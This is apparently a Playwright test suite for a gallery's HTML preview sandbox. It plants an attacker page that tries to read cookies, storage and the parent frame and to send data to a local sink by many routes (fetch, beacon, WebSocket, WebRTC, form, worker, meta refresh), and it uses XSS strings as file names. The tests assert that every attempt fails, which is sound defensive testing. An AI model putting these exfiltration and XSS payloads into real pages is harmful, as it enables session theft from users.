"""A page that attacks the gallery from inside its preview, in a real browser: nothing of it gets out.

The attacker's page runs its scripts, as users' reports may; each of its attempts reports what came of it.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from stack.ports import HOST
from tests.harness.frames import frame_of
from tests.harness.sink import Sink, listening_sink
from tests.harness.waiting import eventually

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Frame, Page
    from tests.harness.own_gallery import OwnGallery

ATTACK = """<!doctype html><title>report</title><h1>Quarterly report</h1><pre id="said">{}</pre>
<script>
const said = {};
const show = () => { document.getElementById("said").textContent = JSON.stringify(said); };
const say = (name, text) => { said[name] = String(text); show(); };
const attempt = (name, act) => {
  try { const came = act(); say(name, came === undefined ? "done" : came); } catch (error) { say(name, error.name); }
};
const away = "http://SINK/stolen";
const make = (tag, properties) => {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
};
say("scripts", "run");
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.length);
attempt("parent document", () => parent.document.title);
attempt("parent location", () => parent.location.href);
attempt("popup", () => window.open(away) === null ? "blocked" : "opened");
attempt("dialog", () => { alert(1); });
for (const [name, path] of Object.entries({api: "/api/v2/dags", gallery: "/belvedere/api/artifacts", away})) {
  fetch(path).then(answer => say("fetch " + name, answer.status), error => say("fetch " + name, error.name));
}
attempt("beacon", () => { navigator.sendBeacon(away, "x"); });
attempt("socket", () => { new WebSocket("ws://SINK/").onopen = () => say("socket open", "yes"); });
attempt("image", () => { make("img", {src: away, onload: () => say("image loaded", "yes")}); });
attempt("hints", () => {
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload"]) make("link", {rel, as: "fetch", href: away});
});
attempt("form", () => { make("form", {action: away, method: "post"}).submit(); });
attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + away + "')"]))); });
attempt("webrtc", () => {
  const connection = new RTCPeerConnection({iceServers: [{urls: "stun:SINK"}]});
  connection.createDataChannel("x");
  connection.createOffer().then(offer => connection.setLocalDescription(offer));
});
attempt("frame", () => { make("iframe", {src: away}); });
attempt("service worker", () => { navigator.serviceWorker.register("/belvedere/static/frame.js"); });
parent.postMessage({belvedere: "height", height: 1e9}, "*");
parent.postMessage({belvedere: "height", height: "x"}, "*");
setTimeout(() => say("end", "reached"), 500);
</script>"""
META = '<!doctype html><meta http-equiv="refresh" content="0; url=http://SINK/stolen"><p>gone'
FREEZE = "<!doctype html><p>frozen<script>setTimeout(() => { while (true); }, 200)</script>"


@pytest.fixture
def sink() -> Iterator[Sink]:
    with listening_sink() as sink:
        yield sink


@pytest.fixture
def tab(browser: Browser, own: OwnGallery) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_cookies([{"name": "_token", "value": "the-session", "url": own.url, "httpOnly": False}])
    yield context.new_page()
    context.close()


def open_artifact(tab: Page, own: OwnGallery, artifact: str) -> Frame:
    """Open an artifact's page and return the frame of its rendering."""
    tab.goto(f"{own.url}/belvedere/artifacts/{artifact}")
    return frame_of(tab, "/preview/")


def attack(sink: Sink) -> bytes:
    return ATTACK.replace("SINK", f"{HOST}:{sink.port}").encode()


def outcome(frame: Frame | Page) -> dict[str, str]:
    """Wait until the attacker has tried everything, and return what came of it."""
    frame.wait_for_function("JSON.parse(document.getElementById('said').textContent).end", timeout=10_000)
    said: dict[str, str] = json.loads(frame.inner_text("#said"))
    assert said["scripts"] == "run"
    return said


def assert_nothing_was_reached(said: dict[str, str]) -> None:
    assert {said[name] for name in ("cookie", "storage", "service worker")} == {"SecurityError"}
    assert {said[name] for name in ("fetch api", "fetch gallery", "fetch away")} == {"TypeError"}
    assert said["popup"] == "blocked"
    assert not {"socket open", "image loaded"} & said.keys()


def test_a_script_in_a_preview_reaches_nothing(own: OwnGallery, tab: Page, sink: Sink) -> None:
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    artifact = own.hang("sandbox/report.html", {"page.html": attack(sink)}, kind="html")
    frame = open_artifact(tab, own, artifact)

    said = outcome(frame)

    assert_nothing_was_reached(said)
    assert {said[name] for name in ("parent document", "parent location")} == {"SecurityError"}
    for target in ("top", "parent", "self"):
        frame.evaluate(
            f"() => {{ try {{ {target}.location.href = 'http://{HOST}:{sink.port}/gone' }} catch (e) {{}} }}"
        )
    tab.wait_for_timeout(1500)
    assert dialogs == []
    assert sink.heard == []
    assert tab.url.endswith(artifact)
    assert len(tab.context.pages) == 1
    assert tab.evaluate("Math.max(...[...document.querySelectorAll('iframe')].map(f => f.offsetHeight))") <= 2402


def test_a_preview_opened_by_itself_is_as_harmless(own: OwnGallery, tab: Page, sink: Sink) -> None:
    artifact = own.hang("sandbox/direct.html", {"page.html": attack(sink)}, kind="html")
    tab.goto(own.url + own.address(artifact, "page.html"))

    assert_nothing_was_reached(outcome(tab))
    tab.evaluate(f"() => {{ location.href = 'http://{HOST}:{sink.port}/gone' }}")
    tab.wait_for_timeout(1500)
    assert sink.heard == []


def test_a_preview_cannot_send_itself_away(own: OwnGallery, tab: Page, sink: Sink) -> None:
    page = META.replace("SINK", f"{HOST}:{sink.port}").encode()
    artifact = own.hang("sandbox/meta.html", {"page.html": page}, kind="html")

    tab.goto(f"{own.url}/belvedere/artifacts/{artifact}")
    tab.wait_for_timeout(2500)

    assert sink.heard == []
    assert tab.url.endswith(artifact)


def test_a_preview_that_never_stops_freezes_only_itself(own: OwnGallery, tab: Page) -> None:
    artifact = own.hang("sandbox/freeze.html", {"page.html": FREEZE.encode()}, kind="html")
    open_artifact(tab, own, artifact)
    tab.wait_for_timeout(1000)

    tab.get_by_role("tab", name="Source").click(timeout=5000)

    assert tab.get_by_role("tab", name="Source").get_attribute("aria-selected") == "true"
    tab.goto("about:blank")


def test_a_renderers_page_runs_no_script_of_an_artifact(own: OwnGallery, tab: Page) -> None:
    change = b"document.getElementById('p').textContent = 'changed'"
    page = b'<p id=p>still</p><script>%b</script><img src=x onerror="%b">' % (change, change)
    artifact = own.hang("sandbox/table.csv", {"page.html": page}, kind="table")
    frame = open_artifact(tab, own, artifact)
    eventually(lambda: tab.locator("iframe").first.evaluate("f => f.style.height"), 5.0, what="the frame's height")

    assert frame.inner_text("#p") == "still"


def test_a_chart_is_drawn_without_eval_and_loads_no_data_from_elsewhere(own: OwnGallery, tab: Page, sink: Sink) -> None:
    spec = {
        "layer": [
            {
                "data": {"values": [{"x": 1, "y": 2}, {"x": 2, "y": 3}]},
                "transform": [{"calculate": "datum.y * 2", "as": "z"}],
                "mark": "point",
                "encoding": {"x": {"field": "x"}, "y": {"field": "z"}},
            },
            {
                "data": {"url": f"http://{HOST}:{sink.port}/data.csv"},
                "mark": "line",
                "encoding": {"x": {"field": "a"}, "y": {"field": "b"}},
            },
        ]
    }
    artifact = own.hang("sandbox/chart.csv", {"page.html": b"<p>x", "chart.vl.json": json.dumps(spec).encode()})
    tab.goto(f"{own.url}/belvedere/artifacts/{artifact}?tab=interactive")
    frame = frame_of(tab, "/interactive")

    assert eventually(lambda: frame.locator("#chart svg path").count() > 3, 15.0, what="marks")
    assert frame.locator("#trouble").is_hidden()
    assert sink.heard == []


def test_hostile_names_are_only_text(own: OwnGallery, tab: Page) -> None:
    mark = "document.documentElement.dataset.pwned=1"
    names = [
        f"sandbox/names/<img src=x onerror={mark}>.csv",
        f'sandbox/names/" onmouseover="{mark}" x="',
        f"sandbox/names/</script><script>{mark}</script>",
        "sandbox/names/{{7*7}}${7*7}.csv",
        "sandbox/names/javascript:alert(1).csv",
    ]
    for name in names:
        own.hang(name, {}, facts={name: {name: [name]}}, title=name, warnings=[name])
    tab.goto(f"{own.url}/belvedere/?prefix=sandbox/names/")
    tab.wait_for_selector(".card")
    cards = tab.locator(".card").all()
    for card in cards:
        card.hover()
    pages = [card.get_attribute("href") for card in cards]

    assert len(pages) == len(names)
    assert "{{7*7}}" in tab.inner_text("#wall")
    for path in pages:
        assert tab.evaluate("document.documentElement.dataset.pwned") is None
        tab.goto(f"{own.url}{path}")
        tab.wait_for_selector("#panel")
    assert tab.evaluate("document.documentElement.dataset.pwned") is None
